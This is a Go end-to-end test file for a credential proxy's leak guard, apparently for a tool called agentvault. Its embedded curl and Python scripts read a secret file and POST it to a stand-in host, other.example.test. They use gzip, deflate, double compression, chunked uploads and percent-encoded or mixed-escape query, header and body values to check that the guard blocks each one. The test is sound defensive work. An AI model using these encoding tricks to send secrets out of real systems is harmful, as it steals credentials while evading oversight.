package e2e

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"fmt"
	"io"
	"strconv"
	"strings"
	"testing"
)

// leakEncodedPy is the Python half of TestLeakGuardEncoded: the secret
// gzip- and deflate-compressed (whole and chunked), fully percent-encoded
// and with mixed escapes (chunked), each POSTed through the proxy to a host it is not bound
// to.
const leakEncodedPy = `import gzip, os, sys, urllib.error, urllib.request, zlib
s = open(os.environ["LEAK_FILE"]).read().strip()
out = os.environ["OUT"]
def post(name, url, data, headers):
    req = urllib.request.Request(url, data=data, headers=headers, method="POST")
    try:
        code = urllib.request.urlopen(req, timeout=20).status
    except urllib.error.HTTPError as e:
        code = e.code
    except Exception as e:
        code = "ERR " + type(e).__name__
    open(os.path.join(out, name + ".status"), "w").write(str(code))
doc = ('{"note": "%s"}' % s).encode()
post("py-gzip", "https://other.example.test/ok/leak-py-gzip", gzip.compress(doc), {"Content-Encoding": "gzip"})
post("py-deflate", "https://other.example.test/ok/leak-py-deflate", zlib.compress(doc), {"Content-Encoding": "deflate"})
gz = gzip.compress(os.urandom(1 << 17).hex().encode() + doc)
post("py-gzip-chunked", "https://other.example.test/ok/leak-py-chunked", iter([gz[i:i + 8192] for i in range(0, len(gz), 8192)]), {"Content-Encoding": "gzip"})
pe = "".join("%%%02X" % b for b in s.encode())
post("py-pct-query", "https://other.example.test/ok/leak-py-pct-query?t=" + pe, b"x", {})
post("py-pct-body", "https://other.example.test/ok/leak-py-pct-body", ("t=" + pe.lower()).encode(), {"Content-Type": "application/x-www-form-urlencoded"})
mix = "".join(("%%%02x" % b) if i % 2 == 0 else chr(b) for i, b in enumerate(s.encode()))
post("py-mixed-chunked", "https://other.example.test/ok/leak-py-mixed", iter([b"a=1&t=", mix.encode(), b"&b=2"]), {"Content-Type": "application/x-www-form-urlencoded"})
post("py-clean", "https://other.example.test/ok/py-clean", gzip.compress(b"clean python body"), {"Content-Encoding": "gzip"})
`

// TestLeakGuardEncoded: the child knows a real secret and sends it to a
// host it is not bound to (egress.inspect: all) gzip- and
// deflate-compressed, doubly gzipped, in a chunked upload, in a coding the
// guard cannot read, with every byte percent-encoded in the query, a header
// and the body, and with escapes mixing encoded and plain characters in a
// chunked body, from curl and from Python. Every attempt is refused
// and the upstream never gets bytes that carry or decode to the secret;
// clean compressed bodies arrive byte for byte as sent.
func TestLeakGuardEncoded(t *testing.T) {
	needBinary(t)
	needTestTool(t, "curl")
	needTestTool(t, "gzip")
	secret := newSecret(t, "leak")
	work := t.TempDir()
	secretFile := writeFile(t, work, "token", secret+"\n")
	clean := gzipBytes(t, []byte(`{"note":"a clean compressed body"}`))
	cleanFile := writeFile(t, work, "clean.gz", string(clean))
	up := newUpstream(t, true)
	cfg := fmt.Sprintf(`version: 1
credentials:
  - name: api
    secret: file:%s
    hosts: [api.example.test]
    inject: bearer
    env: [API_TOKEN]
egress:
  inspect: all
`, secretFile)
	script := `s=$(cat "$LEAK_FILE")
T=$(mktemp -d)
printf '{"note":"%s"}' "$s" | gzip -c > "$T/leak.gz"
gzip -c "$T/leak.gz" > "$T/leak.gz.gz"
{ head -c 2000000 /dev/zero | tr '\0' 'x'; printf '%s' "$s"; } | gzip -c > "$T/big.gz"
pe=$(printf %s "$s" | od -An -tx1 | tr -d ' \n' | sed 's/../%&/g')
PE=$(printf %s "$pe" | tr a-f A-F)
` + curlTo("gzip", "https://other.example.test/ok/leak-gzip", `-H 'Content-Encoding: gzip' --data-binary @"$T/leak.gz"`) +
		curlTo("gzip-chunked", "https://other.example.test/ok/leak-gzip-chunked", `-H 'Content-Encoding: gzip' -H 'Transfer-Encoding: chunked' --data-binary @"$T/big.gz"`) +
		curlTo("gzip-gzip", "https://other.example.test/ok/leak-gzip-gzip", `-H 'Content-Encoding: gzip, gzip' --data-binary @"$T/leak.gz.gz"`) +
		curlTo("br", "https://other.example.test/ok/leak-br", `-H 'Content-Encoding: br' --data-binary "$s"`) +
		curlTo("pct-query", `https://other.example.test/ok/leak-pct-query?t='"$PE"'`) +
		curlTo("pct-header", "https://other.example.test/ok/leak-pct-header", `-H "X-Token: $pe"`) +
		curlTo("pct-body", "https://other.example.test/ok/leak-pct-body", `--data-binary "t=$PE"`) +
		`mx="%65%32%65%2d%6C%65%61%6b%2D${s#e2e-leak-}"
printf 't=%s&more' "$mx" > "$T/mixed"
` + curlTo("mixed-chunked", "https://other.example.test/ok/leak-mixed-chunked", `-H 'Transfer-Encoding: chunked' --data-binary @"$T/mixed"`) +
		curlTo("clean", "https://other.example.test/ok/clean", `-H 'Content-Encoding: gzip' --data-binary @"$CLEAN_FILE"`) +
		`rm -rf "$T"
`
	if pythonExe != "" {
		pyFile := writeFile(t, work, "leak_encoded.py", leakEncodedPy)
		script += fmt.Sprintf("'%s' '%s' 2> \"$OUT/py.err\"\n", pythonExe, pyFile)
	} else {
		skipOutsideCI(t, "python3 not found")
	}
	s := runSession(t, sessionOpts{
		config:  cfg,
		env:     map[string]string{"LEAK_FILE": secretFile, "CLEAN_FILE": cleanFile},
		connect: []string{connectTo("api.example.test", 443, up.Port), connectTo("other.example.test", 443, up.Port)},
		script:  script,
	})
	if s.code != 0 {
		t.Fatalf("exit %d", s.code)
	}
	ph := s.placeholder(t, "API_TOKEN")
	want := map[string]string{"gzip": "403", "gzip-chunked": "403", "gzip-gzip": "403", "br": "415",
		"pct-query": "403", "pct-header": "403", "pct-body": "403", "mixed-chunked": "403"}
	if pythonExe != "" {
		for _, n := range []string{"py-gzip", "py-deflate", "py-gzip-chunked", "py-pct-query", "py-pct-body", "py-mixed-chunked"} {
			want[n] = "403"
		}
		want["py-clean"] = "200"
	}
	for name, code := range want {
		if got := strings.TrimSpace(s.file(name + ".status")); got != code {
			t.Errorf("%s: status %q, want %s", name, got, code)
		}
	}
	for _, r := range up.requests() {
		what := redact(r.Method+" "+r.Host+r.Path, secret, ph)
		if carriesEncoded(r, secret) {
			t.Errorf("the upstream got the secret: %s", what)
		}
		if !strings.Contains(r.Path, "leak") {
			continue
		}
		if r.BodyErr == "" {
			t.Errorf("a blocked request was delivered to the upstream: %s", what)
			continue
		}
	}
	if got := onlyOne(t, up, "/ok/clean"); got.Body != string(clean) || got.Header.Get("Content-Encoding") != "gzip" {
		t.Errorf("clean gzip body changed on the way: %d bytes of %d, Content-Encoding %q", len(got.Body), len(clean), got.Header.Get("Content-Encoding"))
	}
	if pythonExe != "" {
		if got := onlyOne(t, up, "/ok/py-clean"); !bytes.Equal(gunzipAll([]byte(got.Body)), []byte("clean python body")) {
			t.Errorf("clean Python gzip body changed on the way")
		}
	}
	if n := len(auditFind(s.audit, map[string]any{"action": "leak_blocked"})); n < len(want)-2 {
		t.Errorf("%d leak_blocked records, want %d", n, len(want)-2)
	}
	if n := len(auditFind(s.audit, map[string]any{"path": "/ok/leak-br", "action": "error", "status": float64(415)})); n != 1 {
		t.Errorf("br body: %d error records with status 415, want 1:\n%s", n, strings.ReplaceAll(s.auditRaw, secret, "<secret>"))
	}
	for where, text := range map[string]string{"stdout": s.stdout, "stderr": s.stderr, "audit log": s.auditRaw} {
		for _, form := range secretForms(secret) {
			if strings.Contains(text, form) {
				t.Errorf("agentvault %s holds the secret", where)
			}
		}
	}
	s.assertNoPlaceholder(t, ph)
}

// carriesEncoded: r holds secret raw, fully percent-encoded, or in a body
// that decodes (gzip, zlib, twice) to it, as far as the body goes.
func carriesEncoded(r recordedRequest, secret string) bool {
	var pe strings.Builder
	for _, b := range []byte(secret) {
		fmt.Fprintf(&pe, "%%%02X", b)
	}
	text := strings.ToUpper(r.Path + "?" + r.RawQuery + fmt.Sprint(r.Header) + r.Body)
	if strings.Contains(text, strings.ToUpper(secret)) || strings.Contains(text, pe.String()) {
		return true
	}
	if strings.Contains(unescapeLenient(r.Path+"?"+r.RawQuery+fmt.Sprint(r.Header)+r.Body), secret) {
		return true // escapes mixing encoded and plain characters
	}
	body := []byte(r.Body)
	for i := 0; i < 3 && len(body) > 0; i++ {
		if d := gunzipAll(body); len(d) > 0 {
			body = d
		} else if z, err := zlib.NewReader(bytes.NewReader(body)); err == nil {
			body, _ = io.ReadAll(z)
		} else {
			break
		}
		if bytes.Contains(body, []byte(secret)) {
			return true
		}
	}
	return false
}

func gzipBytes(t *testing.T, b []byte) []byte {
	t.Helper()
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	w.Write(b)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// gunzipAll decodes as much of a gzip stream as is there.
func gunzipAll(b []byte) []byte {
	z, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		return nil
	}
	out, _ := io.ReadAll(z)
	return out
}

// unescapeLenient decodes every valid %XX in s and keeps the rest.
func unescapeLenient(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '%' && i+2 < len(s) {
			if v, err := strconv.ParseUint(s[i+1:i+3], 16, 8); err == nil {
				b.WriteByte(byte(v))
				i += 2
				continue
			}
		}
		b.WriteByte(s[i])
	}
	return b.String()
}
